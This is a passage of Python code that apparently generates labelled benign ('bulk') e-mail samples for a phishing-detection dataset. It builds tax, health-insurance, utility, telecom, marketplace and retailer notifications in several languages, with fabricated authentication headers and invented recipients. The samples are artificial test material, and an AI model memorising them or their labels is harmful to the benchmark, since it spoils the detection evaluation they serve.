    a = Auth(sender, dom, "pass", "pass", dom, "dgfip", "pass", "reject")
    plain = """Madame, Monsieur,

Un nouveau document est disponible dans votre espace particulier sur impots.gouv.fr :
votre avis d'impôt 2024 sur les revenus de 2023.

Pour le consulter, connectez-vous à votre espace particulier sur le site impots.gouv.fr (www.impots.gouv.fr)
ou depuis l'application impots.gouv, rubrique « Documents ».

La DGFiP ne vous demande jamais vos coordonnées bancaires ou vos identifiants par courriel ou SMS.

Ce courriel vous est adressé automatiquement. Merci de ne pas y répondre.

La Direction générale des Finances publiques
"""
    html = """<html><body style="font-family:Marianne,Arial,sans-serif;font-size:14px;color:#161616">
<table width="600" align="center" cellpadding="0" cellspacing="0"><tr><td style="padding:12px 0;border-bottom:1px solid #ddd"><b>RÉPUBLIQUE<br>FRANÇAISE</b><br><span style="font-size:11px">Liberté<br>Égalité<br>Fraternité</span></td>
<td style="text-align:right;color:#000091;font-weight:bold">impots.gouv.fr</td></tr>
<tr><td colspan="2" style="padding:18px 0;line-height:1.55">
<p>Madame, Monsieur,</p>
<p>Un nouveau document est disponible dans votre espace particulier sur impots.gouv.fr : <b>votre avis d'impôt 2024 sur les revenus de 2023</b>.</p>
<p>Pour le consulter, connectez-vous à votre espace particulier sur le site <a href="https://www.impots.gouv.fr">impots.gouv.fr</a> ou depuis l'application impots.gouv, rubrique « Documents ».</p>
<p style="font-size:13px">La DGFiP ne vous demande jamais vos coordonnées bancaires ou vos identifiants par courriel ou SMS.</p>
<p style="font-size:12px;color:#666">Ce courriel vous est adressé automatiquement. Merci de ne pas y répondre.<br>La Direction générale des Finances publiques</p>
</td></tr></table></body></html>
"""
    headers = std(addr("impots.gouv.fr", sender), rcpt, "Un nouveau document est disponible dans votre espace particulier",
                  rfc(sent), f"{hexid(name, 'mid', 24)}.{digits(name, 'mid2', 8)}@{dom}", "Auto-Submitted: auto-generated")
    return assemble(name, "free", rcpt, later(sent, 2), hop, a, route, headers, alt(name, plain, html))


@sample("bulk", "b12-ameli-nouveau-message-compte.eml",
        "L'Assurance Maladie's genuine notification from ne-pas-repondre@ameli.fr (DKIM/SPF/DMARC pass) to an orange.fr "
        "insured person: a new message is waiting in the ameli account, read it on ameli.fr or in the app")
def _(name):
    sent = when("Fri, 08 Nov 2024 11:52:19 +0100")
    rcpt = "gerard.pichon29@orange.fr"
    dom = "ameli.fr"
    sender = f"ne-pas-repondre@{dom}"
    hop, route = corp_route(name, "mailing-out.ameli.fr", "160.92.124.18", dom, "ameli1", sent, rcpt, "+0100", "CET")
    a = Auth(f"bounces@mailing.{dom}", dom, "pass", "pass", dom, "ameli1", "pass", "reject")
    plain = """L'Assurance Maladie

Bonjour Monsieur PICHON,

Vous avez reçu un nouveau message dans votre compte ameli.

Pour le lire, connectez-vous à votre compte sur ameli.fr ou dans l'application ameli, rubrique « Mes messages ».

Rappel : l'Assurance Maladie ne vous demande jamais vos coordonnées bancaires, ni de payer pour recevoir
une carte Vitale, par e-mail ou par SMS.

Ceci est un message automatique, merci de ne pas y répondre.
L'Assurance Maladie
"""
    html = """<html><body style="font-family:Arial,sans-serif;font-size:14px;color:#222">
<table width="600" align="center" cellpadding="0" cellspacing="0"><tr><td style="background:#0c419a;color:#fff;padding:16px 20px;font-size:20px"><b>l'Assurance Maladie</b></td></tr>
<tr><td style="padding:20px;line-height:1.5">
<p>Bonjour Monsieur PICHON,</p>
<p>Vous avez reçu un <b>nouveau message</b> dans votre compte ameli.</p>
<p>Pour le lire, connectez-vous à votre compte sur <a href="https://www.ameli.fr">ameli.fr</a> ou dans l'application ameli, rubrique « Mes messages ».</p>
<p style="font-size:13px;background:#eef3fb;padding:10px">Rappel : l'Assurance Maladie ne vous demande jamais vos coordonnées bancaires, ni de payer pour recevoir une carte Vitale, par e-mail ou par SMS.</p>
<p style="font-size:11px;color:#777">Ceci est un message automatique, merci de ne pas y répondre.</p>
</td></tr></table></body></html>
"""
    headers = std(addr("l'Assurance Maladie", sender), rcpt, "Vous avez un nouveau message dans votre compte ameli", rfc(sent),
                  f"{uuid(name, 'mid')}@ameli.fr", "Auto-Submitted: auto-generated")
    return assemble(name, "orange", rcpt, later(sent, 2), hop, a, route, headers, alt(name, plain, html))


@sample("bulk", "b12-hmrc-new-message-no-links-notify.eml",
        "HMRC's genuine 'you have a new message' e-mail from noreply@tax.service.gov.uk, sent through Amazon SES "
        "(DKIM for tax.service.gov.uk and amazonses.com, DMARC pass) to a sky.com taxpayer; like real HMRC mail it "
        "contains no links and says to sign in through GOV.UK")
def _(name):
    sent = when("Thu, 18 Jan 2024 10:06:44 +0000")
    rcpt = "karen.walsh@sky.com"
    dom = "tax.service.gov.uk"
    hop, route, env = ses_route(name, dom, sent, region="eu-west-2")
    a = Auth(env, dom, "pass", "pass", dom, alnum(name, "sessel", 32, "abcdefghijklmnopqrstuvwxyz234567"), "pass", "reject",
             dkim_extra=("amazonses.com", "uku4taia5b5tsbglxyj6zym32efj7xqv"))
    plain = """HM Revenue & Customs

Dear Karen Walsh

You have a new message from HMRC in your HMRC online account.

To read it, sign in to your HMRC online account. You can find the sign in page by searching for
'HMRC sign in' on GOV.UK.

For security reasons, we have not included a link with this email.

From HMRC

This is an automated email. Please do not reply to it.
"""
    html = """<html><body style="font-family:Arial,sans-serif;font-size:19px;color:#0b0c0c">
<table width="580" align="center" cellpadding="0" cellspacing="0"><tr><td style="background:#0b0c0c;color:#fff;padding:10px 15px;font-size:28px"><b>GOV.UK</b></td></tr>
<tr><td style="padding:15px;line-height:1.3">
<p>Dear Karen Walsh</p>
<p>You have a new message from HMRC in your HMRC online account.</p>
<p>To read it, sign in to your HMRC online account. You can find the sign in page by searching for 'HMRC sign in' on GOV.UK.</p>
<p>For security reasons, we have not included a link with this email.</p>
<p>From HMRC</p>
<p style="font-size:14px;color:#505a5f">This is an automated email. Please do not reply to it.</p>
</td></tr></table></body></html>
"""
    headers = [
        "Subject: You have a new message from HMRC",
        f"From: {addr('HM Revenue and Customs', 'noreply@' + dom)}",
        f"To: {rcpt}",
        "MIME-Version: 1.0",
        f"Message-ID: <{env.split('@')[0]}@eu-west-2.amazonses.com>",
        f"Date: {rfc(sent)}",
        f"Feedback-ID: ::1.eu-west-2.{b64(name, 'fbid', 43)}=:AmazonSES",
        f"X-SES-Outgoing: 2024.01.18-{hop.ip}",
    ]
    return assemble(name, "sky", rcpt, later(sent, 2), hop, a, route, headers, alt(name, plain, html))


@sample("bulk", "b12-edf-facture-electricite-pdf.eml",
        "EDF's genuine monthly bill notice from ne-pas-repondre@edf.fr (DKIM/SPF/DMARC pass) to a wanadoo.fr customer "
        "with the PDF invoice attached; the amount is debited on the usual date and the only links go to edf.fr")
def _(name):
    sent = when("Tue, 05 Mar 2024 04:18:27 +0100")
    rcpt = "jp.lemarchand@wanadoo.fr"
    dom = "edf.fr"
    sender = f"ne-pas-repondre@{dom}"
    hop, route = corp_route(name, "smtp-out3.edf.fr", "163.116.6.42", dom, "edf2023", sent, rcpt, "+0100", "CET")
    a = Auth(f"retour@mail.{dom}", dom, "pass", "pass", dom, "edf2023", "pass", "reject")
    fac = digits(name, "fac", 11)
    pdf = pdf_doc(
        ["EDF - Facture d'electricite", "",
         latin1(f"Facture n° {fac} du 04/03/2024"),
         latin1("Titulaire : M. Jean-Pierre Lemarchand - Référence client : 6 0043 218 774"),
         latin1("Offre : Tarif Bleu - Option Base - 9 kVA"), "",
         latin1("Consommation du 02/02/2024 au 03/03/2024 : 612 kWh"),
         latin1("Abonnement ......................... 17,52 EUR"),
         latin1("Consommation ....................... 155,26 EUR"),
         latin1("Taxes et contributions ............ 21,07 EUR"), "",
         latin1("Montant TTC : 193,85 EUR"),
         latin1("Prélèvement automatique le 19/03/2024 sur votre compte habituel.")],
        f"Facture EDF {fac}", producer="PDFlib+PDI 9.3.1 (Linux)", creator="EDF Editique", created="20240304220000+01'00'")
    plain = f"""EDF

Bonjour Monsieur Lemarchand,

Votre facture d'électricité n° {fac} est disponible. Vous la trouverez en pièce jointe et dans votre
Espace Client EDF.

Montant : 193,85 € TTC
Le prélèvement sera effectué le 19/03/2024 sur votre compte habituel : vous n'avez rien à faire.

Espace Client : https://particulier.edf.fr/fr/accueil/espace-client.html

EDF ne vous demande jamais vos coordonnées bancaires par e-mail.
Ce message est envoyé automatiquement, merci de ne pas y répondre.
"""
    html = f"""<html><body style="margin:0;background:#f5f5f5;font-family:Arial,sans-serif">
<table width="600" align="center" style="background:#fff" cellpadding="0" cellspacing="0"><tr><td style="background:#001a70;color:#fff;padding:16px 20px;font-size:22px"><b>EDF</b></td></tr>
<tr><td style="padding:20px;font-size:14px;color:#333;line-height:1.5">
<p>Bonjour Monsieur Lemarchand,</p>
<p>Votre facture d'électricité n° <b>{fac}</b> est disponible. Vous la trouverez en pièce jointe et dans votre Espace Client EDF.</p>
<p>Montant : <b>193,85 € TTC</b><br>Le prélèvement sera effectué le <b>19/03/2024</b> sur votre compte habituel : vous n'avez rien à faire.</p>
<p><a href="https://particulier.edf.fr/fr/accueil/espace-client.html" style="color:#1057c8">Accéder à mon Espace Client</a></p>
<p style="font-size:11px;color:#777">EDF ne vous demande jamais vos coordonnées bancaires par e-mail.<br>Ce message est envoyé automatiquement, merci de ne pas y répondre.<br>EDF SA – 22-30 avenue de Wagram, 75382 Paris cedex 08 – RCS Paris 552 081 317</p>
</td></tr></table></body></html>
"""
    headers = std(addr("EDF", sender), rcpt, "Votre facture d'électricité est disponible", rfc(sent), f"{uuid(name, 'mid')}@edf.fr",
                  "Auto-Submitted: auto-generated")
    body = Multi("mixed", f"----=_Part_{digits(name, 'mx', 7)}_{digits(name, 'mx2', 9)}.{epoch(sent)}{digits(name, 'mx3', 3)}", [
        alt(name, plain, html),
        attachment("application/pdf", f"Facture_EDF_{fac}.pdf", pdf),
    ])
    return assemble(name, "wanadoo", rcpt, later(sent, 2), hop, a, route, headers, body)


@sample("bulk", "b12-eon-jahresabrechnung-pdf.eml",
        "E.ON Energie Deutschland's genuine annual-bill e-mail from noreply@eon.de (DKIM/SPF/DMARC pass) to a web.de "
        "customer with the Jahresabrechnung PDF; a credit is refunded to the known account, links only to eon.de")
def _(name):
    sent = when("Sat, 17 Feb 2024 08:40:12 +0100")
    rcpt = "sabine.koehler@web.de"
    dom = "eon.de"
    sender = f"noreply@{dom}"
    hop, route = corp_route(name, "mailout-de2.eon.de", "62.245.206.71", dom, "eon2024", sent, rcpt, "+0100", "CET")
    a = Auth(f"bounce@mail.{dom}", dom, "pass", "pass", dom, "eon2024", "pass", "reject")
    kd = digits(name, "kd", 9)
    pdf = pdf_doc(
        ["E.ON Energie Deutschland GmbH - Jahresabrechnung Strom 2023", "",
         latin1(f"Vertragskonto {kd} - Sabine Köhler, Lindenstraße 7, 34117 Kassel"),
         latin1("Abrechnungszeitraum 01.01.2023 - 31.12.2023"), "",
         latin1("Verbrauch 2.184 kWh - Gesamtbetrag 782,40 EUR"),
         latin1("Geleistete Abschläge 12 x 70,00 EUR = 840,00 EUR"),
         latin1("Guthaben 57,60 EUR - Erstattung auf Ihr bekanntes Konto"), "",
         latin1("Neuer monatlicher Abschlag ab März 2024: 66,00 EUR")],
        f"Jahresabrechnung {kd}", producer="Adobe LiveCycle Output 11.0", created="20240216210000+01'00'")
    plain = f"""E.ON

Ihre Jahresabrechnung ist da

Hallo Frau Köhler,

Ihre Jahresabrechnung Strom für 2023 (Vertragskonto {kd}) finden Sie im Anhang und in Ihrem Kundenportal
„Mein E.ON“.

Gute Nachricht: Sie erhalten ein Guthaben von 57,60 €. Wir überweisen es in den nächsten Tagen auf Ihr
bei uns hinterlegtes Konto. Ihr neuer monatlicher Abschlag beträgt ab März 66,00 €.

Mein E.ON: https://www.eon.de/de/meineon/start.html

Ihr E.ON Team
Diese E-Mail wurde automatisch versandt. Bitte antworten Sie nicht darauf.
"""
    html = f"""<html><body style="margin:0;font-family:EONBrixSans,Arial,sans-serif;color:#262626">
<table width="600" align="center" cellpadding="0" cellspacing="0"><tr><td style="background:#ea1c0a;color:#fff;padding:16px 20px;font-size:24px"><b>e.on</b></td></tr>
<tr><td style="padding:20px;font-size:14px;line-height:1.5">
<h2 style="font-size:20px;color:#ea1c0a">Ihre Jahresabrechnung ist da</h2>
<p>Hallo Frau Köhler,</p>
<p>Ihre Jahresabrechnung Strom für 2023 (Vertragskonto {kd}) finden Sie im Anhang und in Ihrem Kundenportal „Mein E.ON“.</p>
<p>Gute Nachricht: Sie erhalten ein <b>Guthaben von 57,60 €</b>. Wir überweisen es in den nächsten Tagen auf Ihr bei uns hinterlegtes Konto. Ihr neuer monatlicher Abschlag beträgt ab März 66,00 €.</p>
<p><a href="https://www.eon.de/de/meineon/start.html" style="color:#1ea2b1">Zu Mein E.ON</a></p>
<p style="font-size:11px;color:#777">Ihr E.ON Team · Diese E-Mail wurde automatisch versandt. Bitte antworten Sie nicht darauf.<br>E.ON Energie Deutschland GmbH · Arnulfstraße 203 · 80634 München</p>
</td></tr></table></body></html>
"""
    headers = std(addr("E.ON Energie Deutschland", sender), rcpt, "Ihre Jahresabrechnung 2023 ist da", rfc(sent),
                  f"{uuid(name, 'mid')}@eon.de", "Auto-Submitted: auto-generated")
    body = Multi("mixed", f"----=_Part_{digits(name, 'mx', 7)}_{digits(name, 'mx2', 9)}.{epoch(sent)}{digits(name, 'mx3', 3)}", [
        alt(name, plain, html),
        attachment("application/pdf", f"Jahresabrechnung_2023_{kd}.pdf", pdf),
    ])
    return assemble(name, "webde", rcpt, later(sent, 3), hop, a, route, headers, body)


@sample("bulk", "b12-tim-fattura-disponibile-mytim.eml",
        "TIM's genuine 'la tua fattura è disponibile' notice from noreply@tim.it (DKIM/SPF/DMARC pass) to a "
        "virgilio.it customer: amount and direct-debit date, view the bill in MyTIM; links only to tim.it")
def _(name):
    sent = when("Fri, 12 Jul 2024 07:25:33 +0200")
    rcpt = "rosa.esposito@virgilio.it"
    dom = "tim.it"
    sender = f"noreply@{dom}"
    hop, route = corp_route(name, "mailout.tim.it", "217.169.121.66", dom, "tim2024", sent, rcpt, "+0200", "CEST")
    a = Auth(f"bounce@comunicazioni.{dom}", dom, "pass", "pass", dom, "tim2024", "pass", "reject")
    linea = f"0{digits(name, 'linea', 1)}{digits(name, 'linea2', 7)}"
    plain = f"""TIM

Gentile Cliente,

la fattura n. 8T{digits(name, 'fatt', 8)} del 10/07/2024 relativa alla linea {linea[:3]}****{linea[-2:]} è disponibile.

Importo: 34,90 €
Addebito su conto corrente: 05/08/2024

Puoi consultare e scaricare la fattura nell'area MyTIM o nell'app MyTIM.
MyTIM: https://www.tim.it/mytim

TIM non ti chiederà mai via email i dati della carta o le credenziali di accesso.
Questa è una comunicazione automatica, ti preghiamo di non rispondere.
"""
    html = f"""<html><body style="font-family:Arial,sans-serif;font-size:14px;color:#1c2638">
<table width="600" align="center" cellpadding="0" cellspacing="0"><tr><td style="background:#004691;color:#fff;padding:16px 20px;font-size:24px"><b>TIM</b></td></tr>
<tr><td style="padding:20px;line-height:1.5">
<p>Gentile Cliente,</p>
<p>la fattura n. 8T{digits(name, 'fatt', 8)} del 10/07/2024 relativa alla linea {linea[:3]}****{linea[-2:]} è disponibile.</p>
<p>Importo: <b>34,90 €</b><br>Addebito su conto corrente: <b>05/08/2024</b></p>
<p>Puoi consultare e scaricare la fattura nell'area <a href="https://www.tim.it/mytim">MyTIM</a> o nell'app MyTIM.</p>
<p style="font-size:11px;color:#777">TIM non ti chiederà mai via email i dati della carta o le credenziali di accesso.<br>Questa è una comunicazione automatica, ti preghiamo di non rispondere.<br>TIM S.p.A. – Via Gaetano Negri 1, 20123 Milano</p>
</td></tr></table></body></html>
"""
    headers = std(addr("TIM", sender), rcpt, "La tua fattura TIM è disponibile", rfc(sent), f"{uuid(name, 'mid')}@tim.it",
                  "Auto-Submitted: auto-generated")
    return assemble(name, "virgilio", rcpt, later(sent, 2), hop, a, route, headers, alt(name, plain, html))


@sample("bulk", "b12-vinted-article-vendu-sendgrid.eml",
        "Vinted's genuine 'ton article a été vendu' notification from no-reply@vinted.fr through Vinted's authenticated "
        "SendGrid domain (DKIM/SPF/DMARC pass) to a laposte.net seller: ship within 5 days, money released after "
        "delivery, links only to vinted.fr and a reminder never to pay or give card details outside the app")
def _(name):
    sent = when("Sat, 23 Mar 2024 14:02:51 +0000")
    rcpt = "aurelie.daniel35@laposte.net"
    dom = "vinted.fr"
    hop, route, env, uid = sendgrid_route(name, dom, sent, rcpt)
    a = Auth(env, dom, "pass", "pass", dom, "s1", "pass", "reject")
    order = digits(name, "ord", 10)
    plain = f"""Vinted

Ton article a été vendu !

Bonne nouvelle, Aurélie : « Veste en jean Levi's taille M » a été acheté par camille_b29 pour 22,00 €.

Envoie le colis dans les 5 jours : le bordereau d'envoi est disponible dans ta conversation avec l'acheteur.
L'argent sera ajouté à ton Porte-monnaie Vinted dès que l'acheteur aura confirmé que tout est en ordre.

Voir la commande : https://www.vinted.fr/inbox?transaction_id={order}

Rappel : Vinted ne te demandera jamais de saisir tes coordonnées bancaires via un lien pour recevoir un
paiement. Reste toujours sur Vinted pour échanger et être payé.

L'équipe Vinted
"""
    html = f"""<html><body style="margin:0;background:#f2f2f2;font-family:Helvetica,Arial,sans-serif">
<table width="600" align="center" style="background:#fff" cellpadding="0" cellspacing="0"><tr><td style="padding:18px 22px;color:#09777f;font-size:26px"><b>Vinted</b></td></tr>
<tr><td style="padding:0 22px 22px;font-size:15px;color:#111;line-height:1.5">
<h2 style="font-size:20px">Ton article a été vendu !</h2>
<p>Bonne nouvelle, Aurélie : « Veste en jean Levi's taille M » a été acheté par <b>camille_b29</b> pour 22,00 €.</p>
<p>Envoie le colis dans les 5 jours : le bordereau d'envoi est disponible dans ta conversation avec l'acheteur. L'argent sera ajouté à ton Porte-monnaie Vinted dès que l'acheteur aura confirmé que tout est en ordre.</p>
<p><a href="https://www.vinted.fr/inbox?transaction_id={order}" style="background:#09777f;color:#fff;padding:11px 22px;border-radius:4px;text-decoration:none">Voir la commande</a></p>
<p style="font-size:13px;color:#666">Rappel : Vinted ne te demandera jamais de saisir tes coordonnées bancaires via un lien pour recevoir un paiement. Reste toujours sur Vinted pour échanger et être payé.</p>
<p style="font-size:11px;color:#999">Vinted UAB, Švitrigailos g. 13, Vilnius, Lituanie · <a href="https://www.vinted.fr/settings/notifications" style="color:#999">Préférences de notification</a></p>
</td></tr></table>
<img src="https://u{uid}.ct.sendgrid.net/wf/open?upn={b64(name, 'upn', 80).replace('+', '-').replace('/', '_')}" alt="" width="1" height="1" border="0"></body></html>
"""
    headers = [
        *std(addr("Vinted", "no-reply@" + dom), rcpt, "Ton article a été vendu !", rfc(sent),
             f"{alnum(name, 'mid', 22)}@geopod-ismtpd-{int(hexid(name, 'geo', 2), 16) % 40}"),
        f"X-Feedback-ID: {uid}:SG",
        f"X-SG-EID: =?us-ascii?Q?u001.{b64(name, 'eid', 60).replace('=', '')}?=",
        f"X-SG-ID: =?us-ascii?Q?u001.{b64(name, 'sgidh', 60).replace('=', '')}?=",
        f"X-Entity-ID: u001.{b64(name, 'ent', 22)}==",
    ]
    return assemble(name, "laposte", rcpt, later(sent, 3), hop, a, route, headers, alt(name, plain, html))


@sample("bulk", "b12-leboncoin-nouveau-message-annonce.eml",
        "leboncoin's genuine 'nouveau message pour votre annonce' notification from no-reply@leboncoin.fr "
        "(DKIM/SPF/DMARC pass) to a free.fr seller, with the start of the buyer's question and a reply link to "
        "leboncoin.fr messaging, plus the usual warning about off-platform payment links")
def _(name):
    sent = when("Thu, 16 Nov 2023 19:37:08 +0100")
    rcpt = "sandrine.riou@free.fr"
    dom = "leboncoin.fr"
    sender = f"no-reply@{dom}"
    hop, route = corp_route(name, "mail-out2.leboncoin.fr", "193.164.197.40", dom, "lbc2023", sent, rcpt, "+0100", "CET")
    a = Auth(f"bounce@mail.{dom}", dom, "pass", "pass", dom, "lbc2023", "pass", "reject")
    conv = uuid(name, "conv")
    plain = f"""leboncoin

Vous avez un nouveau message

Julien vous a envoyé un message au sujet de votre annonce « Poussette Yoyo 2 6+ » :
« Bonjour, la poussette est-elle toujours disponible ? Je peux passer la voir samedi matin à Rezé... »

Répondre : https://www.leboncoin.fr/messages/id/{conv}

Pour votre sécurité : échangez et payez uniquement via leboncoin. Ne cliquez jamais sur un lien envoyé par
un acheteur pour « recevoir un paiement ».

Vous recevez cet e-mail car les notifications de messages sont activées.
Gérer mes notifications : https://www.leboncoin.fr/compte/notifications
"""
    html = f"""<html><body style="margin:0;font-family:Arial,sans-serif;color:#1a1a1a">
<table width="600" align="center" cellpadding="0" cellspacing="0"><tr><td style="padding:18px 22px;color:#ec5a13;font-size:26px"><b>leboncoin</b></td></tr>
<tr><td style="padding:0 22px 22px;font-size:15px;line-height:1.5">
<h2 style="font-size:20px">Vous avez un nouveau message</h2>
<p>Julien vous a envoyé un message au sujet de votre annonce « Poussette Yoyo 2 6+ » :</p>
<p style="background:#f4f6f7;padding:12px;border-radius:8px">« Bonjour, la poussette est-elle toujours disponible ? Je peux passer la voir samedi matin à Rezé... »</p>
<p><a href="https://www.leboncoin.fr/messages/id/{conv}" style="background:#ec5a13;color:#fff;padding:11px 22px;border-radius:8px;text-decoration:none">Répondre</a></p>
<p style="font-size:13px;color:#555">Pour votre sécurité : échangez et payez uniquement via leboncoin. Ne cliquez jamais sur un lien envoyé par un acheteur pour « recevoir un paiement ».</p>
<p style="font-size:11px;color:#999">Vous recevez cet e-mail car les notifications de messages sont activées. <a href="https://www.leboncoin.fr/compte/notifications" style="color:#999">Gérer mes notifications</a></p>
</td></tr></table></body></html>
"""
    headers = std(addr("leboncoin", sender), rcpt, "Nouveau message pour « Poussette Yoyo 2 6+ »", rfc(sent),
                  f"{uuid(name, 'mid')}@leboncoin.fr",
                  "List-Unsubscribe: <https://www.leboncoin.fr/compte/notifications>")
    return assemble(name, "free", rcpt, later(sent, 2), hop, a, route, headers, alt(name, plain, html))


@sample("bulk", "b12-amazon-fr-confirmation-commande.eml",
        "Amazon.fr's genuine order confirmation from confirmation-commande@amazon.fr sent via Amazon's SES "
        "infrastructure (DKIM for amazon.fr and amazonses.com, DMARC pass) to an sfr.fr customer; order details "
        "link to amazon.fr")
def _(name):
    sent = when("Sun, 01 Dec 2024 20:41:55 +0000")
    rcpt = "julien.bertho@sfr.fr"
    dom = "amazon.fr"
    hop, route, env = amazon_route(name, dom, sent)
    a = Auth(env, dom, "pass", "pass", dom, alnum(name, "amzsel", 32, "abcdefghijklmnopqrstuvwxyz234567"), "pass", "quarantine",
             dkim_extra=("amazonses.com", "uku4taia5b5tsbglxyj6zym32efj7xqv"))
    order = f"171-{digits(name, 'o1', 7)}-{digits(name, 'o2', 7)}"
    url = f"https://www.amazon.fr/gp/css/order-details?orderID={order}"
    plain = f"""Amazon.fr

Merci pour votre commande, Julien !

Commande n° {order}
Livraison estimée : mercredi 4 décembre

Bosch Professional perceuse-visseuse sans fil GSR 12V-15 ... 1 x 89,99 €
Total de la commande : 89,99 €

Détails de la commande : {url}

Nous vous enverrons un e-mail dès que votre colis aura été expédié.
Cet e-mail a été envoyé depuis une adresse ne pouvant recevoir d'e-mails. Merci de ne pas y répondre.
"""
    html = f"""<html><body style="margin:0;font-family:Amazon Ember,Arial,sans-serif;color:#0f1111">
<table width="600" align="center" cellpadding="0" cellspacing="0"><tr><td style="background:#232f3e;padding:14px 20px;color:#fff;font-size:22px"><b>amazon</b>.fr</td></tr>
<tr><td style="padding:20px;font-size:14px;line-height:1.5">
<h2 style="font-size:20px">Merci pour votre commande, Julien !</h2>
<p>Commande n° <a href="{url}">{order}</a><br>Livraison estimée : <b>mercredi 4 décembre</b></p>
<table width="100%" style="border-top:1px solid #ddd;border-bottom:1px solid #ddd"><tr><td style="padding:10px 0">Bosch Professional perceuse-visseuse sans fil GSR 12V-15</td><td style="text-align:right">1 x 89,99 €</td></tr></table>
<p style="text-align:right"><b>Total de la commande : 89,99 €</b></p>
<p><a href="{url}" style="background:#ffd814;color:#0f1111;padding:10px 22px;border-radius:20px;text-decoration:none">Voir ou gérer la commande</a></p>
<p style="font-size:12px;color:#565959">Nous vous enverrons un e-mail dès que votre colis aura été expédié.<br>Cet e-mail a été envoyé depuis une adresse ne pouvant recevoir d'e-mails. Merci de ne pas y répondre.</p>
</td></tr></table></body></html>
"""
    headers = [
        f"Date: {rfc(sent)}",
        f"From: {addr('Amazon.fr', 'confirmation-commande@' + dom)}",
        f"Reply-To: no-reply@{dom}",
        f"To: {rcpt}",
        f"Message-ID: <{env.split('@')[0]}@email.amazonses.com>",
        f"Subject: {enc('Votre commande Amazon.fr n° ' + order, 'Q')}",
        "MIME-Version: 1.0",
        f"Feedback-ID: 1.eu-west-1.{b64(name, 'fbid', 43)}=:AmazonSES",
        f"X-SES-Outgoing: {sent:%Y.%m.%d}-{hop.ip}",
    ]
    return assemble(name, "sfr", rcpt, later(sent, 3), hop, a, route, headers, alt(name, plain, html))


@sample("bulk", "b12-amazon-de-bestellbestaetigung.eml",
        "Amazon.de's genuine order confirmation from bestellbestaetigung@amazon.de via Amazon's SES infrastructure "
        "(DKIM for amazon.de and amazonses.com, DMARC pass) to a gmx.de customer; links only to amazon.de")
def _(name):
    sent = when("Thu, 04 Jul 2024 12:13:27 +0000")
    rcpt = "petra.schulze66@gmx.de"
    dom = "amazon.de"
    hop, route, env = amazon_route(name, dom, sent)
    a = Auth(env, dom, "pass", "pass", dom, alnum(name, "amzsel", 32, "abcdefghijklmnopqrstuvwxyz234567"), "pass", "quarantine",
             dkim_extra=("amazonses.com", "uku4taia5b5tsbglxyj6zym32efj7xqv"))
    order = f"302-{digits(name, 'o1', 7)}-{digits(name, 'o2', 7)}"
    url = f"https://www.amazon.de/gp/css/order-details?orderID={order}"
    plain = f"""Amazon.de

Vielen Dank für Ihre Bestellung, Petra!

Bestellnummer: {order}
Voraussichtliche Zustellung: Samstag, 6. Juli

Brita Wasserfilter-Kartuschen MAXTRA PRO All-in-1, 6er Pack ... 1 x 34,99 €
Gesamtsumme: 34,99 €

Bestelldetails: {url}

Wir senden Ihnen eine Bestätigung, sobald Ihre Artikel versandt wurden.
Diese E-Mail wurde von einer Adresse gesendet, die keine E-Mails empfangen kann.
"""
    html = f"""<html><body style="margin:0;font-family:Amazon Ember,Arial,sans-serif;color:#0f1111">
<table width="600" align="center" cellpadding="0" cellspacing="0"><tr><td style="background:#232f3e;padding:14px 20px;color:#fff;font-size:22px"><b>amazon</b>.de</td></tr>
<tr><td style="padding:20px;font-size:14px;line-height:1.5">
<h2 style="font-size:20px">Vielen Dank für Ihre Bestellung, Petra!</h2>
<p>Bestellnummer: <a href="{url}">{order}</a><br>Voraussichtliche Zustellung: <b>Samstag, 6. Juli</b></p>
<table width="100%" style="border-top:1px solid #ddd;border-bottom:1px solid #ddd"><tr><td style="padding:10px 0">Brita Wasserfilter-Kartuschen MAXTRA PRO All-in-1, 6er Pack</td><td style="text-align:right">1 x 34,99 €</td></tr></table>
<p style="text-align:right"><b>Gesamtsumme: 34,99 €</b></p>
<p><a href="{url}" style="background:#ffd814;color:#0f1111;padding:10px 22px;border-radius:20px;text-decoration:none">Bestellung anzeigen oder bearbeiten</a></p>
<p style="font-size:12px;color:#565959">Wir senden Ihnen eine Bestätigung, sobald Ihre Artikel versandt wurden.<br>Diese E-Mail wurde von einer Adresse gesendet, die keine E-Mails empfangen kann.</p>
</td></tr></table></body></html>
"""
    headers = [
        f"Date: {rfc(sent)}",
        f"From: {addr('Amazon.de', 'bestellbestaetigung@' + dom)}",
        f"Reply-To: no-reply@{dom}",
        f"To: {rcpt}",
        f"Message-ID: <{env.split('@')[0]}@email.amazonses.com>",
        f"Subject: {enc('Ihre Amazon.de Bestellung von Brita Wasserfilter-Kartuschen...', 'Q')}",
        "MIME-Version: 1.0",
        f"Feedback-ID: 1.eu-west-1.{b64(name, 'fbid', 43)}=:AmazonSES",
        f"X-SES-Outgoing: {sent:%Y.%m.%d}-{hop.ip}",
    ]
    return assemble(name, "gmx", rcpt, later(sent, 3), hop, a, route, headers, alt(name, plain, html))


@sample("bulk", "b12-mairie-lettre-information-brevo.eml",
        "A French town's monthly newsletter ('Kervalen Infos') sent through Brevo from communication@ville-kervalen.fr "
        "(DKIM for the town and Brevo, SPF pass, DMARC pass) to an orange.fr resident: works, Christmas market, "
        "council meeting, with Brevo tracking links to the town's site and a one-click unsubscribe")
def _(name):
    sent = when("Thu, 28 Nov 2024 10:00:14 +0000")
    rcpt = "annie.corre@orange.fr"
    dom = "ville-kervalen.fr"
    hop, route, env = brevo_route(name, dom, sent)
    env = f"bounces-{digits(name, 'brvb', 7)}-{hexid(name, 'brvb2', 8)}@mailin-b.{dom}"
    a = Auth(env, dom, "pass", "pass", dom, "mail", "pass", "quarantine", dkim_extra=("sendinblue.com", "mail"))
    track = f"https://{hexid(name, 'r', 6)}.r.sp1-brevo.net/mk/cl/f/"
    links = {k: track + b64(name, "lnk" + k, 60).replace("/", "_").replace("+", "-") for k in ("travaux", "noel", "conseil", "site")}
    unsub = f"https://{hexid(name, 'r', 6)}.r.sp1-brevo.net/mk/un/v2/{b64(name, 'unsub', 40).replace('/', '_').replace('+', '-')}"
    plain = f"""Kervalen Infos – décembre 2024

Travaux rue de la Gare : la circulation sera alternée du 2 au 13 décembre pour le remplacement de la
conduite d'eau potable. Détails : {links['travaux']}

Marché de Noël : samedi 14 et dimanche 15 décembre sur la place de l'Église, 40 exposants, balade en
calèche et venue du Père Noël dimanche à 15h. Programme : {links['noel']}

Conseil municipal : prochaine séance le jeudi 19 décembre à 20h en mairie, séance publique.
Ordre du jour : {links['conseil']}

Horaires de la mairie pendant les fêtes : fermeture les 24 et 31 décembre après-midi.

